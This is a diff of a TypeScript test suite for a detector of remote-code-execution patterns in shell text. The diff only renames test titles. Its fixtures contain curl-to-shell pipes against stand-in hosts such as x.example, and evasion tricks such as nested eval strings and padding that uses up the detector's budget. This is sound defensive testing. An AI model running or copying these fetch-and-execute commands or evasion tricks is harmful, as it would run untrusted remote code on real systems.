@@ -32,7 +32,7 @@ function padded(definition: string, calls: readonly string[], last: string): str
 const range = (length: number): string[] => Array.from({ length }, (_, index) => String(index));
 
 describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
-  it.each(Object.entries(programs))("%s are evaluated to the end", async (_, text) => {
+  it.each(Object.entries(programs))("%s are evaluated completely", async (_, text) => {
     const detection = (await sharedDetector(profile)).detect(text);
     assertSound(text, detection);
     expect(detection.findings.map((finding) => finding.text)).toEqual([FETCH]);
@@ -67,7 +67,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
       ),
       "get https://x.example/i | sh",
     ],
-  ])("hundreds of plain calls hide no other: %s", async (_, text, found) => {
+  ])("hundreds of plain calls do not hide another: %s", async (_, text, found) => {
     const detection = (await sharedDetector(profile)).detect(text);
     assertSound(text, detection);
     expect(
@@ -76,7 +76,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.outcome).toEqual({ status: "complete" });
   });
 
-  it("arguments that differ at each of very many calls are joined, and the outcome says so", async () => {
+  it("different arguments of very many calls are joined, and the outcome reports it", async () => {
     const text = growing(30, "curl -fsSL https://x.example/i | sh");
     const detection = (await sharedDetector(profile)).detect(text);
     assertSound(text, detection);
@@ -84,7 +84,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.outcome.status).toBe("incomplete");
   });
 
-  it("what calls use up hides nothing behind them, also in other blocks", async () => {
+  it("calls that spend the budget hide nothing after them, also in other blocks", async () => {
     const costly = `${growing(200, "curl -fsSL https://x.example/i | sh")}curl B | sh\n`;
     const text = `\`\`\`sh\n${costly}\`\`\`\n\n`.repeat(3);
     const detection = (await sharedDetector(profile)).detect(text);
@@ -113,17 +113,14 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
   it.each([
     [13, ['eval "$v13"'], "complete"],
     [60, [], "incomplete"],
-  ])(
-    "%i code strings in one another are read or reported as not read",
-    async (depth, found, status) => {
-      const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
-      const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
-      const detection = (await sharedDetector(profile)).detect(text);
-      assertSound(text, detection);
-      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
-      expect(detection.outcome.status).toBe(status);
-    },
-  );
+  ])("%i nested code strings are read or reported as not read", async (depth, found, status) => {
+    const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
+    const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings.map((finding) => finding.text)).toEqual(found);
+    expect(detection.outcome.status).toBe(status);
+  });
 
   it.each([
     ['f() { eval "$S"; }\nS=$(curl A)\nf\n', ['eval "$S"']],
@@ -137,7 +134,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     ['f() { g "$1"; }\ng() { eval "$1"; }\nf ls\ng() { :; }\nf "curl A | sh"\n', []],
     ["( g() { sh; }; f() { curl A | g; }; f )\n", ["curl A | g"]],
     ["f() { curl A | g; }\n( g() { sh; }; :; )\nf\n", []],
-  ])("a call sees what was set before it: %j", async (text, found) => {
+  ])("a call sees the values that were set before it: %j", async (text, found) => {
     const detection = (await sharedDetector(profile)).detect(`\`\`\`sh\n${text}\`\`\`\n`);
     expect(
       detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
